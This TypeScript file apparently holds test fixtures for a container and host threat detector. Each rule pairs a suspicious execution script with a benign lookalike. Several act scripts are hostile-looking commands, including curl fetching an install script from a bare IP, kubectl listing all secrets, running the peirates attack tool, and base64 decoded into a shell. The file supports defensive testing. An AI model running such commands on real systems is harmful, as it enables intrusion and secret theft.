import type { Act } from './act.ts';

/** content/rules/unusual-programs.yaml */
export const EXECUTION_ACTS: readonly Act[] = [
  {
    rule: 'Program run from a scratch directory in a container',
    act: {
      says: 'a program copied to /tmp is run',
      script: '/bin/cp /usr/bin/tool /tmp/x && /tmp/x nothing',
      programs: ['/usr/bin/tool'],
    },
    process: 'x',
    lookalike: {
      says: 'a program of the image works on a file in /tmp',
      script: 'echo hello > /tmp/x && /bin/cat /tmp/x',
    },
  },
  {
    rule: 'Program run from shared memory on the host',
    act: {
      says: 'a program is run out of /dev/shm',
      where: 'host',
      script:
        'cp /bin/true /dev/shm/midwatch-act && /dev/shm/midwatch-act; rm /dev/shm/midwatch-act',
    },
    process: 'midwatch-act',
    lookalike: {
      says: 'a program uses a file in /dev/shm',
      where: 'host',
      script:
        'cp /bin/true /dev/shm/midwatch-file && cksum /dev/shm/midwatch-file; rm /dev/shm/midwatch-file',
    },
  },
  {
    rule: 'Program run from a scratch directory on the host',
    act: {
      says: 'a program is run out of /tmp',
      where: 'host',
      script: 'cp /bin/true ./midwatch-act && ./midwatch-act',
    },
    process: 'midwatch-act',
    lookalike: {
      says: 'an installed program is run while the working directory is in /tmp',
      where: 'host',
      script: '/bin/true',
    },
  },
  {
    rule: 'Program run from memory',
    act: {
      says: 'a program is put into a memfd and run',
      script: '/usr/bin/loader memory-exec',
      programs: ['/usr/bin/loader'],
    },
    process: '*',
    lookalike: {
      says: 'a program runs another one from its file',
      script: '/usr/bin/loader exec /bin/true',
      programs: ['/usr/bin/loader'],
    },
  },
  {
    rule: 'Program run that is not in the image',
    act: {
      says: 'a program written to /usr/bin is run',
      script: '/bin/cp /usr/bin/tool /usr/bin/dropped && /usr/bin/dropped nothing',
      programs: ['/usr/bin/tool'],
    },
    process: 'dropped',
    lookalike: {
      says: 'a program of the image writes a file and is run again',
      script: '/usr/bin/tool write /opt-file; /usr/bin/tool nothing',
      programs: ['/usr/bin/tool'],
    },
  },
  {
    rule: 'Program run right after it was written',
    act: {
      says: 'a program is copied to a volume and run there',
      script: '/bin/cp /usr/bin/tool /volume/fresh && /volume/fresh nothing',
      programs: ['/usr/bin/tool'],
      volumePrograms: ['/volume/other'],
    },
    process: 'fresh',
    lookalike: {
      says: 'a program of the image is run while the volume is written to',
      script: 'echo data > /volume/file; /usr/bin/tool nothing',
      programs: ['/usr/bin/tool'],
      volumePrograms: ['/volume/other'],
    },
  },
  {
    rule: 'Hidden program run in a container',
    act: {
      says: 'a program whose name begins with a dot is run',
      script: '/opt/.cache nothing',
      programs: ['/opt/.cache'],
    },
    process: '.cache',
    lookalike: {
      says: 'a program in a dot directory is run',
      script: '/root/.local/bin/tool nothing',
      programs: ['/root/.local/bin/tool'],
    },
  },
  {
    rule: 'Package manager run in a container',
    act: {
      says: 'apk adds a package',
      script: '/sbin/apk add nmap',
      programs: ['/sbin/apk'],
    },
    process: 'apk',
    lookalike: {
      says: 'npm starts the application',
      script: '/usr/bin/npm run start',
      programs: ['/usr/bin/npm'],
    },
  },
  {
    rule: 'Compiler run in a container',
    act: {
      says: 'gcc compiles a file',
      script: '/usr/bin/gcc -o /opt/x /opt/x.c',
      programs: ['/usr/bin/gcc'],
    },
    process: 'gcc',
    lookalike: {
      says: 'java runs a program',
      script: '/usr/bin/java -jar /opt/app.jar',
      programs: ['/usr/bin/java'],
    },
  },
  {
    rule: 'Download tool run in a container',
    act: {
      says: 'wget asks another machine',
      script: '/bin/wget -q -O /dev/null http://192.0.2.1/tool; true',
    },
    process: 'wget',
    lookalike: {
      says: 'wget is the health check of the container itself',
      script: '/bin/wget -q -O /dev/null http://127.0.0.1:8080/healthz; true',
    },
  },
  {
    rule: 'Download from a place that hosts anything',
    act: {
      says: 'curl fetches a script from a bare address',
      script: '/usr/bin/curl -sSL http://203.0.113.7/install.sh',
      programs: ['/usr/bin/curl'],
    },
    process: 'curl',
    lookalike: {
      says: 'curl asks a neighbour in a private network',
      script:
        '/usr/bin/curl -sf http://10.1.2.3:8080/ready; /usr/bin/curl -s http://api/v1/2.0.1.3',
      programs: ['/usr/bin/curl'],
    },
  },
  {
    rule: 'Kubernetes client run in a container',
    act: {
      says: 'kubectl lists secrets',
      script: '/usr/local/bin/kubectl get secrets -A',
      programs: ['/usr/local/bin/kubectl'],
    },
    process: 'kubectl',
    lookalike: {
      says: 'an operator with a name of its own talks to the cluster',
      script: '/usr/local/bin/my-operator --kubeconfig none',
      programs: ['/usr/local/bin/my-operator'],
    },
  },
  {
    rule: 'Attack tool run',
    act: {
      says: 'peirates is run',
      script: '/opt/peirates nothing',
      programs: ['/opt/peirates'],
    },
    process: 'peirates',
    lookalike: {
      says: 'a program with an ordinary name is run in /opt',
      script: '/opt/pirate-shop nothing',
      programs: ['/opt/pirate-shop'],
    },
  },
  {
    rule: 'Encoded script run',
    act: {
      says: 'a shell unpacks base64 into another shell',
      script: "/bin/sh -c 'echo dHJ1ZQ== | /bin/base64 -d | sh'",
    },
    process: 'sh',
    lookalike: {
      says: 'a shell unpacks base64 into a file',
      script: "/bin/sh -c 'echo dHJ1ZQ== | /bin/base64 -d > /root/key.der'",
    },
  },
];
